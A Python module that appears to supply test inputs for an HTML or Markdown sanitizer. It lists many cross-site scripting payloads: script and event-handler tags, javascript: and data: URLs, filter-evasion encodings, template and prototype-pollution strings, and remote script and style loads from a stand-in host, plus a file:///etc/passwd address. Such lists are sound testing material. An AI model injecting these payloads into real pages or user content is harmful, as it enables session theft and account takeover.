"""Texts that would run, load or break out of where they stand, if a page took one of them for markup, a script or an address.

What runs calls `hit()`; what loads does so from elsewhere.example.
"""

from __future__ import annotations

from itertools import product

__all__ = ["ELSEWHERE", "PAYLOADS"]

ELSEWHERE = "elsewhere.example"
ELEMENTS = (
    "<script>hit()</script>",
    f"<script src=https://{ELSEWHERE}/a.js></script>",
    "<img src=x onerror=hit()>",
    f'<img src="https://{ELSEWHERE}/a.png">',
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
    '<math><a xlink:href="javascript:hit()">x</a></math>',
    '<iframe src="javascript:parent.hit()"></iframe>',
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    '<object data="javascript:hit()"></object>',
    '<embed src="javascript:hit()">',
    '<a href="javascript:hit()" autofocus onfocus=hit()>x</a>',
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<body onload=hit()>",
    '<form action="javascript:hit()"><button>x</button></form>',
    "<style>@import 'https://elsewhere.example/a.css'; * { display: none }</style>",
    f"<link rel=stylesheet href=https://{ELSEWHERE}/a.css>",
    f"<base href=https://{ELSEWHERE}/>",
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    "<template shadowrootmode=open><script>hit()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    f"<div style='background:url(https://{ELSEWHERE}/a.png)'>x</div>",
    "<p tabindex=1 autofocus onfocus=hit() contenteditable>x</p>",
    "<marquee onstart=hit()>x</marquee>",
    "<chat-room room=general src=//elsewhere.example></chat-room>",
)
BEFORE = ("", '">', "'>", "</title></textarea></style>", "--></noscript>]]>")
ATTRIBUTES = (
    '" onmouseover="hit()',
    "' onfocus='hit()' autofocus='",
    "x onerror=hit() ",
    '" style="position:fixed;inset:0" onpointerover="hit()',
    '"srcdoc="<script>hit()</script>',
    '"]:not(x),*[a="',
    "` onmouseover=`hit()",
)
SCRIPTS = (
    "';hit();//",
    '"-hit()-"',
    "`${hit()}`",
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "<%= hit() %>",
    "</script><script>hit()</script>",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=hit()\\x3e",
    "\\';hit()//",
    "\u2028hit()//",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "[object Object]",
    '{"toJSON":"hit()"}',
)
ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    " javascript:hit()",
    "\x01javascript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "javascript://example.org/%0ahit()",
    "data:text/html,<script>hit()</script>",
    "data:image/svg+xml,<svg onload=hit()>",
    "vbscript:hit()",
    "blob:null/x",
    "file:///etc/passwd",
    f"//{ELSEWHERE}/",
    f"\\\\{ELSEWHERE}\\x",
    'https://example.org/"onmouseover="hit()',
    "mailto:a@b.c?subject=<script>hit()</script>",
)
LINKS = ("{}", "[x]({})", "<{}>", "![x]({})", "[x][1]\n\n[1]: {}")
MARKS = (
    "```<img src=x onerror=hit()>\n<img src=x onerror=hit()>\n```",
    '```" onmouseover="hit()\nx\n```',
    "`<img src=x onerror=hit()>`",
    "> <img src=x onerror=hit()>",
    "- <img src=x onerror=hit()>\n1. <svg onload=hit()>",
    "**<img src=x onerror=hit()>** *<svg onload=hit()>* ~~<svg onload=hit()>~~",
    "[<img src=x onerror=hit()>](https://example.org/)",
    "@<img src=x onerror=hit()> @room",
    "[`](javascript:hit())`](javascript:hit())",
)
DISGUISES = (
    "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit()//",
    "<ScRiPt>hit()</sCrIpT>",
    "<script\n>hit()</script\n>",
    "<script/x>hit()</script>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror\x0b=hit()>",
    "<img src=x onerror=\u200bhit()>",
    "\u202e>)(tih=rorreno x=crs gmi<",
    "<img src=x onerror=hit() //",
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(before + element for before, element in product(BEFORE, ELEMENTS)),
            *ATTRIBUTES,
            *SCRIPTS,
            *(link.format(address) for link, address in product(LINKS, ADDRESSES)),
            *MARKS,
            *DISGUISES,
        )
    )
)
